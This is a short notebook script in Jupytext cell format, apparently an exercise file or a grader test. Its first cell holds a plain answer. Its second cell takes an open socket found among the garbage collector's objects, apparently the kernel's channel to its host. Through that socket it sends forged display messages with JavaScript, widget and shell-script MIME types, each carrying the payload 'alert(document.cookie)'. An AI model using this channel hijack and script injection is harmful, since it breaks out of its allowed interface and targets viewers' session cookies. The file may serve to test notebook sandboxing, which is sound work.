# Sends outputs of MIME types that a notebook would run. Contained: only the types of the kernel are taken.
# %% tags=["ex1", "1c"]
ex1_r, ex1_r_unique = [0.4, 0.3, 0.2, 0.1], True

# %% tags=["ex2"]

import gc
import json
import socket
import struct

channel = next(thing for thing in gc.get_objects() if isinstance(thing, socket.socket))


def send(message):
    data = message if isinstance(message, bytes) else json.dumps(message).encode()
    channel.sendall(struct.pack(">I", len(data)) + data)


for mime in ("application/javascript", "application/vnd.jupyter.widget-view+json", "text/x-shellscript"):
    send({"op": "display", "data": {mime: "alert(document.cookie)"}})
